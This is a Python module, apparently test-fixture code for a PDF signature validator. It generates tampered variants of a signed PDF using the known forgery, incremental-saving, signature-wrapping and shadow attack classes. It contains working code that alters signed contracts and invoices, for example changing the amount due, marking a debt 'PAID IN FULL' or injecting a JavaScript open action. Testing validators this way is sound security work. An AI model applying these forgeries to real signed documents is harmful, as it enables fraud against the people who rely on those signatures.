"""Attack variants of a signed PDF, after the published PDF signature attack classes.

- USF (Universal Signature Forgery): the signature dictionary's /Contents or /ByteRange broken or
  removed, so a careless validator has nothing to check and shows a signature anyway;
- ISA (Incremental Saving Attack): content changed in a new revision appended after signing;
- SWA (Signature Wrapping): /ByteRange rewritten so the signed bytes move and attacker bytes sit
  in the gap;
- shadow attacks: hide (an appearance put over signed content), replace (a signed object
  redefined), hide-and-replace (the page's content swapped for another stream), and replace via
  form field (the filled-in value of a field changed, which DocMDP level 2 permits).

Incremental updates are made with pyHanko's writer; byte-level variants edit the bytes of the
signature dictionary in place (same length) so that everything else stays as signed.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

__all__ = ["VARIANTS", "VARIANTS_ON_LAST", "variants"]

_BR = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")


def _last_sig(data: bytes, which: int = 0) -> tuple[re.Match[bytes], re.Match[bytes]]:
    """The /ByteRange and /Contents of signature number ``which`` (in file order; -1: the last)."""
    br = list(_BR.finditer(data))[which]
    contents = [m for m in _CONTENTS.finditer(data) if m.end() <= int(br.group(3)) + 2]
    return br, contents[-1]


def _same_length(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old), (old, new)
    return new + b" " * (len(old) - len(new))


def _replace(data: bytes, start: int, end: int, new: bytes) -> bytes:
    return data[:start] + _same_length(data[start:end], new) + data[end:]


# ------------------------------------------------------------------------------------ USF


def usf_contents_zeroed(data: bytes, which: int = 0) -> bytes:
    _, c = _last_sig(data, which)
    return _replace(data, c.start(1), c.end(1), b"0" * (c.end(1) - c.start(1)))


def usf_contents_empty(data: bytes, which: int = 0) -> bytes:
    _, c = _last_sig(data, which)
    return _replace(data, c.start(), c.end(), b"/Contents <>")


def usf_contents_removed(data: bytes, which: int = 0) -> bytes:
    _, c = _last_sig(data, which)
    return _replace(data, c.start(), c.end(), b"/Foo 0")


def usf_byterange_removed(data: bytes, which: int = 0) -> bytes:
    br, _ = _last_sig(data, which)
    return _replace(data, br.start(), br.end(), b"/Bar 0")


def usf_byterange_null(data: bytes, which: int = 0) -> bytes:
    br, _ = _last_sig(data, which)
    return _replace(data, br.start(), br.end(), b"/ByteRange null")


def usf_byterange_short(data: bytes, which: int = 0) -> bytes:
    """The ByteRange covers only the first few bytes of the file."""
    br, _ = _last_sig(data, which)
    return _replace(data, br.start(), br.end(), b"/ByteRange [0 10 20 10]")


def usf_byterange_garbage(data: bytes, which: int = 0) -> bytes:
    br, _ = _last_sig(data, which)
    return _replace(data, br.start(), br.end(), b"/ByteRange [-5 99999999 0 -1]")


# ------------------------------------------------------------------------------------ ISA


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _stream(text: bytes) -> generic.StreamObject:
    return generic.StreamObject(stream_data=text)


def isa_new_content(data: bytes) -> bytes:
    """A new revision points the page at other content."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page = _page(w)
        page["/Contents"] = w.add_object(
            _stream(b"BT /F1 16 Tf 72 760 Td (Amount due: 9,999,999.00 MYR) Tj ET")
        )
        w.update_container(page)

    return _update(data, change)


def isa_append_page(data: bytes) -> bytes:
    def change(w: IncrementalPdfFileWriter) -> None:
        page = _page(w)
        new_page = generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Page"),
                generic.pdf_name("/Parent"): page.raw_get("/Parent"),
                generic.pdf_name("/MediaBox"): page["/MediaBox"],
                generic.pdf_name("/Contents"): w.add_object(
                    _stream(b"BT /F1 12 Tf 72 760 Td (Extra terms) Tj ET")
                ),
            }
        )
        pages = w.root["/Pages"]
        pages["/Kids"].append(w.add_object(new_page))
        pages["/Count"] = generic.NumberObject(2)
        w.update_container(pages)

    return _update(data, change)


def isa_open_action(data: bytes) -> bytes:
    def change(w: IncrementalPdfFileWriter) -> None:
        w.root["/OpenAction"] = generic.DictionaryObject(
            {
                generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
                generic.pdf_name("/JS"): generic.pdf_string("app.alert('x')"),
            }
        )
        w.update_root()

    return _update(data, change)


def isa_trailing_bytes(data: bytes) -> bytes:
    """Bytes appended after the last %%EOF, outside any revision."""
    return data + b"\n1 0 obj\n(injected) endobj\n"


# ------------------------------------------------------------------------------------ SWA


def swa_wrapped(data: bytes, which: int = 0) -> bytes:
    """The signed second range is copied to the end of the file and /ByteRange points there,
    while the original place holds altered bytes (same length, so every offset still holds)."""
    br, _ = _last_sig(data, which)
    a, b, c, d = (int(br.group(i)) for i in range(1, 5))
    signed_tail = data[c : c + d]
    altered = signed_tail.replace(b"SANDBOX", b"ALTERED", 1)
    if altered == signed_tail:
        altered = signed_tail[:-2] + b"%%"
    new_br = f"/ByteRange [{a} {b} {len(data)} {d}]".encode()
    data = _replace(data, br.start(), br.end(), new_br)
    return data[:c] + altered + data[c + d :] + signed_tail


def swa_gap_widened(data: bytes, which: int = 0) -> bytes:
    """The second range starts later than the end of /Contents, leaving unsigned bytes in between."""
    br, _ = _last_sig(data, which)
    a, b, c, d = (int(br.group(i)) for i in range(1, 5))
    return _replace(data, br.start(), br.end(), f"/ByteRange [{a} {b} {c + 40} {d - 40}]".encode())


# ------------------------------------------------------------------------------------ shadow


def shadow_hide(data: bytes) -> bytes:
    """An annotation with an opaque appearance is laid over the signed text."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page = _page(w)
        ap = w.add_object(
            generic.StreamObject(
                {
                    generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                    generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
                    generic.pdf_name("/BBox"): generic.ArrayObject(
                        [generic.NumberObject(n) for n in (0, 0, 500, 40)]
                    ),
                },
                stream_data=b"1 1 1 rg 0 0 500 40 re f",
            )
        )
        annot = w.add_object(
            generic.DictionaryObject(
                {
                    generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
                    generic.pdf_name("/Subtype"): generic.pdf_name("/Square"),
                    generic.pdf_name("/Rect"): generic.ArrayObject(
                        [generic.NumberObject(n) for n in (60, 720, 560, 760)]
                    ),
                    generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): ap}),
                }
            )
        )
        page["/Annots"].append(annot)
        w.update_container(
            page["/Annots"] if isinstance(page.raw_get("/Annots"), generic.IndirectObject) else page
        )

    return _update(data, change)


def shadow_replace(data: bytes) -> bytes:
    """The font object the signed text uses is redefined in a new revision."""

    def change(w: IncrementalPdfFileWriter) -> None:
        font_ref = _page(w)["/Resources"]["/Font"].raw_get("/F1")
        font = font_ref.get_object()
        font["/BaseFont"] = generic.pdf_name("/ZapfDingbats")
        w.mark_update(font_ref)

    return _update(data, change)


def shadow_hide_and_replace(data: bytes) -> bytes:
    """The signed content stream object itself is overwritten with other text."""

    def change(w: IncrementalPdfFileWriter) -> None:
        ref = _page(w).raw_get("/Contents")
        stream = ref.get_object()
        stream._data = b"BT /F1 16 Tf 72 760 Td (Contract cancelled) Tj ET"
        stream._encoded_data = None
        w.mark_update(ref)

    return _update(data, change)


def shadow_replace_via_form(data: bytes) -> bytes:
    """The text field's value and appearance change: form filling, allowed after signing."""

    def change(w: IncrementalPdfFileWriter) -> None:
        for ref in w.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/FT") != "/Tx":
                continue
            field["/V"] = generic.pdf_string("PAID IN FULL - no amount due")
            ap = w.add_object(
                generic.StreamObject(
                    {
                        generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                        generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
                        generic.pdf_name("/BBox"): generic.ArrayObject(
                            [generic.NumberObject(n) for n in (0, 0, 300, 20)]
                        ),
                    },
                    stream_data=b"BT /F1 11 Tf 2 6 Td (PAID IN FULL - no amount due) Tj ET",
                )
            )
            field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): ap})
            w.mark_update(ref)

    return _update(data, change)


_TARGETED: dict[str, Callable[..., bytes]] = {
    "usf-contents-zeroed": usf_contents_zeroed,
    "usf-contents-empty": usf_contents_empty,
    "usf-contents-removed": usf_contents_removed,
    "usf-byterange-removed": usf_byterange_removed,
    "usf-byterange-null": usf_byterange_null,
    "usf-byterange-short": usf_byterange_short,
    "usf-byterange-garbage": usf_byterange_garbage,
    "swa-wrapped": swa_wrapped,
    "swa-gap-widened": swa_gap_widened,
}

VARIANTS: dict[str, Callable[[bytes], bytes]] = {
    **_TARGETED,
    "isa-new-content": isa_new_content,
    "isa-append-page": isa_append_page,
    "isa-open-action": isa_open_action,
    "isa-trailing-bytes": isa_trailing_bytes,
    "shadow-hide": shadow_hide,
    "shadow-replace": shadow_replace,
    "shadow-hide-and-replace": shadow_hide_and_replace,
    "shadow-replace-via-form": shadow_replace_via_form,
}

#: the same byte-level attacks aimed at the last signature of the file (a document time stamp in B-LTA)
VARIANTS_ON_LAST: dict[str, Callable[[bytes], bytes]] = {
    f"{name}@last": (lambda data, f=make: f(data, -1)) for name, make in _TARGETED.items()
}


def variants(data: bytes) -> dict[str, bytes]:
    return {name: make(data) for name, make in VARIANTS.items()}
